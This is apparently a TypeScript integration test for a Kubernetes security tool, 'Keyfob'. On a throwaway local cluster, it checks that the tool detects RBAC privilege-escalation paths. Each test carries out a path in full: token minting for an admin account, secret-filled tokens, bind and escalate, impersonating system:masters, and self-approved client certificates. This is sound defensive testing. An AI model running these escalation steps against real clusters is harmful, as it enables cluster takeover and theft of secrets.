import { request as httpsRequest } from 'node:https';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EscalationPath } from '../../src/shared/contract/state/escalation.ts';
import { eventually } from '../desktop/processes.ts';
import { openKeyfob, type OpenKeyfob, inspectionOf } from '../fakes/open-keyfob.ts';
import { hasServers } from './binaries.ts';
import { makeCertificateRequest } from './certificates.ts';
import { startCluster, type ApiReply, type Cluster } from './cluster.ts';
import { startControllers, type Controllers } from './controllers.ts';
import { readPaste } from '../../src/main/core/cluster/inspect/read-paste.ts';

const rbac = '/apis/rbac.authorization.k8s.io/v1';
const rbacGroup = 'rbac.authorization.k8s.io';
const certificates = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const accounts = '/api/v1/namespaces/home/serviceaccounts';
/** What only a cluster administrator may do here. */
const allSecrets = '/api/v1/secrets';

interface Rule {
  readonly verbs: string[];
  readonly apiGroups: string[];
  readonly resources: string[];
}

const rule = (verbs: string, group: string, resources: string): Rule => ({
  verbs: verbs.split(','),
  apiGroups: [group],
  resources: resources.split(','),
});

describe.skipIf(!hasServers)('a thief with a token, on the real API server with RBAC', () => {
  let cluster: Cluster;
  let controllers: Controllers;
  let app: OpenKeyfob;

  beforeAll(async () => {
    cluster = await startCluster({ rbac: true });
    controllers = await startControllers(cluster, [
      'serviceaccount-token-controller',
      'certificatesigningrequest-signing-controller',
    ]);
    await cluster.request('POST', '/api/v1/namespaces', { metadata: { name: 'home' } });
    for (const name of ['strong', 'accomplice'])
      await cluster.request('POST', accounts, { metadata: { name } });
    await cluster.request('POST', `${rbac}/clusterrolebindings`, bindingOf('strong', 'cluster-admin'));
    app = await openKeyfob(cluster.snapData.current);
  });
  afterAll(async () => {
    await app.close();
    await controllers.stop();
    await cluster.stop();
  });

  const bindingOf = (account: string, role: string, name = `${account}-${role}`) => ({
    metadata: { name },
    roleRef: { apiGroup: rbacGroup, kind: 'ClusterRole', name: role },
    subjects: [{ kind: 'ServiceAccount', namespace: 'home', name: account }],
  });
  const mint = async (name: string) =>
    (await cluster.request('POST', `${accounts}/${name}/token`, { spec: {} })).body.status.token as string;
  const statusOf = async (token: string) =>
    (await cluster.request('GET', allSecrets, undefined, token)).status;

  /** An account with these rules everywhere, its token, and the ways that Keyfob sees in it. */
  async function makeThief(name: string, rules: readonly Rule[]) {
    await cluster.request('POST', accounts, { metadata: { name } });
    await cluster.request('POST', `${rbac}/clusterroles`, { metadata: { name }, rules });
    await cluster.request('POST', `${rbac}/clusterrolebindings`, bindingOf(name, name));
    const token = await mint(name);
    const { use } = await inspectionOf(app.keyfob);
    const pasted = app.keyfob.inspect.pasted.take(readPaste(token));
    if (!pasted.ok) throw new Error(pasted.error.code);
    const told = await use.rights({ kind: 'pasted', id: pasted.value.id }, 'home');
    if (!told.ok) throw new Error(told.error.code);
    const call = (method: string, path: string, body?: object) => cluster.request(method, path, body, token);
    return { token, call, ways: told.value.escalation.map(({ kind }: EscalationPath) => kind) };
  }
  /** The token is found out and its account is deleted with all that was given to it. */
  async function catchThief(name: string) {
    await cluster.request('DELETE', `${rbac}/clusterrolebindings/${name}-${name}`);
    await cluster.request('DELETE', `${accounts}/${name}`);
  }

  it('keeps what it gets by minting for a stronger account', async () => {
    const thief = await makeThief('minter', [rule('create', '', 'serviceaccounts/token')]);
    expect(thief.ways).toEqual(['token-request']);
    expect(await statusOf(thief.token)).toBe(403);
    const spec = { expirationSeconds: 2 ** 32 };
    const minted = await thief.call('POST', `${accounts}/strong/token`, { spec });
    await catchThief('minter');
    const years = (Date.parse(minted.body.status.expirationTimestamp as string) - Date.now()) / 3.15e10;
    expect(years).toBeGreaterThan(100);
    expect(await statusOf(minted.body.status.token as string)).toBe(200);
  });

  it('keeps what it gets by a Secret that the cluster fills with a token', async () => {
    const thief = await makeThief('secret-maker', [rule('create,get', '', 'secrets')]);
    expect(thief.ways).toEqual(['secrets-create']);
    expect(await statusOf(thief.token)).toBe(403);
    await thief.call('POST', '/api/v1/namespaces/home/secrets', {
      metadata: { name: 'loot', annotations: { 'kubernetes.io/service-account.name': 'strong' } },
      type: 'kubernetes.io/service-account-token',
    });
    const loot = await eventually('the Secret is filled', async () => {
      const { body } = await thief.call('GET', '/api/v1/namespaces/home/secrets/loot');
      return (body as { data?: { token?: string } }).data?.token;
    });
    await catchThief('secret-maker');
    expect(await statusOf(Buffer.from(loot, 'base64').toString())).toBe(200);
  });

  it('keeps its rights by giving them to an accomplice', async () => {
    const rules = [rule('create', rbacGroup, 'clusterrolebindings'), rule('list', '', 'configmaps')];
    const thief = await makeThief('giver', rules);
    expect(thief.ways).toEqual(['bindings']);
    const accomplice = await mint('accomplice');
    const list = () => cluster.request('GET', '/api/v1/configmaps', undefined, accomplice);
    expect((await list()).status).toBe(403);
    const beyond = bindingOf('accomplice', 'cluster-admin', 'beyond');
    expect((await thief.call('POST', `${rbac}/clusterrolebindings`, beyond)).status).toBe(403);
    const given = await thief.call('POST', `${rbac}/clusterrolebindings`, bindingOf('accomplice', 'giver'));
    expect(given.status).toBe(201);
    await catchThief('giver');
    expect((await list()).status).toBe(200);
  });

  it('makes an accomplice administrator with bind', async () => {
    const thief = await makeThief('binder', [
      rule('create', rbacGroup, 'clusterrolebindings'),
      rule('bind', rbacGroup, 'clusterroles'),
    ]);
    expect(thief.ways).toEqual(['bindings', 'bind']);
    await cluster.request('POST', accounts, { metadata: { name: 'bound' } });
    const accomplice = await mint('bound');
    expect(await statusOf(accomplice)).toBe(403);
    await thief.call('POST', `${rbac}/clusterrolebindings`, bindingOf('bound', 'cluster-admin'));
    await catchThief('binder');
    expect(await statusOf(accomplice)).toBe(200);
  });

  it('makes itself administrator with escalate', async () => {
    const thief = await makeThief('escalator', [rule('escalate,update,get', rbacGroup, 'clusterroles')]);
    expect(thief.ways).toEqual(['escalate']);
    expect(await statusOf(thief.token)).toBe(403);
    const role = (await thief.call('GET', `${rbac}/clusterroles/escalator`)).body as object;
    const widened = { ...role, rules: [rule('*', '*', '*')] };
    expect((await thief.call('PUT', `${rbac}/clusterroles/escalator`, widened)).status).toBe(200);
    await eventually('the wider role counts', async () =>
      (await statusOf(thief.token)) === 200 ? true : null,
    );
  });

  it('makes an accomplice administrator by acting as one', async () => {
    const thief = await makeThief('impersonator', [rule('impersonate', '', 'users,groups')]);
    expect(thief.ways).toEqual(['impersonate']);
    await cluster.request('POST', accounts, { metadata: { name: 'friend' } });
    const friend = await mint('friend');
    expect(await statusOf(friend)).toBe(403);
    const made = await send(cluster, 'POST', `${rbac}/clusterrolebindings`, {
      body: bindingOf('friend', 'cluster-admin'),
      headers: {
        authorization: `Bearer ${thief.token}`,
        'impersonate-user': 'anybody',
        'impersonate-group': 'system:masters',
      },
    });
    expect(made.status).toBe(201);
    await catchThief('impersonator');
    expect(await statusOf(friend)).toBe(200);
  });

  it('keeps a client certificate that it signed for a stronger user', async () => {
    const thief = await makeThief('signer', [
      rule('create,get', 'certificates.k8s.io', 'certificatesigningrequests'),
      rule('update', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
      rule('approve', 'certificates.k8s.io', 'signers'),
    ]);
    expect(thief.ways).toEqual(['certificates']);
    expect(await statusOf(thief.token)).toBe(403);
    const { requestPem, keyPem } = await makeCertificateRequest('CN=system:kube-controller-manager');
    const asked = await thief.call('POST', certificates, {
      metadata: { name: 'loot' },
      spec: {
        request: Buffer.from(requestPem).toString('base64'),
        signerName: 'kubernetes.io/kube-apiserver-client',
        usages: ['client auth'],
      },
    });
    const approval = { type: 'Approved', status: 'True', reason: 'Theft', message: 'by the thief itself' };
    const approved = { ...(asked.body as object), status: { conditions: [approval] } };
    expect((await thief.call('PUT', `${certificates}/loot/approval`, approved)).status).toBe(200);
    const certificate = await eventually('the certificate is signed', async () => {
      const { body } = await thief.call('GET', `${certificates}/loot`);
      return (body as { status: { certificate?: string } }).status.certificate;
    });
    await catchThief('signer');
    const cert = Buffer.from(certificate, 'base64').toString();
    expect((await send(cluster, 'GET', allSecrets, { cert, key: keyPem })).status).toBe(200);
  });

  // What follows in a pod or on a node needs a kubelet, which this rig does not have: up to the API server’s decision.
  it.each([
    ['pods', rule('create', '', 'pods'), 'create', 'pods', ''],
    ['exec', rule('create', '', 'pods/exec'), 'create', 'pods', 'exec'],
    ['node-proxy', rule('get', '', 'nodes/proxy'), 'get', 'nodes', 'proxy'],
  ] as const)('is let through to %s', async (kind, given, verb, resource, subresource) => {
    const name = `thief-of-${kind}`;
    const review = async () => {
      const spec = {
        user: `system:serviceaccount:home:${name}`,
        resourceAttributes: {
          verb,
          resource,
          subresource,
          ...(resource === 'pods' ? { namespace: 'home' } : {}),
        },
      };
      const path = '/apis/authorization.k8s.io/v1/subjectaccessreviews';
      return (await cluster.request('POST', path, { spec })).body.status.allowed as boolean;
    };
    expect(await review()).toBe(false);
    const thief = await makeThief(name, [given]);
    expect(thief.ways).toEqual([kind]);
    expect(await review()).toBe(true);
  });
});

/** A call with headers or a client certificate of the caller's own. */
function send(
  { server, snapData }: Cluster,
  method: string,
  path: string,
  how: { body?: object; headers?: Record<string, string>; cert?: string; key?: string },
): Promise<ApiReply> {
  const { body, headers = {}, ...pair } = how;
  return new Promise((resolve, reject) => {
    const sent = httpsRequest(
      `${server}${path}`,
      {
        method,
        ca: snapData.authority.pem,
        ...pair,
        headers: { ...headers, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      },
      (reply) => {
        let text = '';
        reply.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
        reply.on('end', () => resolve({ status: reply.statusCode ?? 0, body: JSON.parse(text) as unknown }));
      },
    );
    sent.on('error', reject);
    sent.end(body === undefined ? undefined : JSON.stringify(body));
  });
}
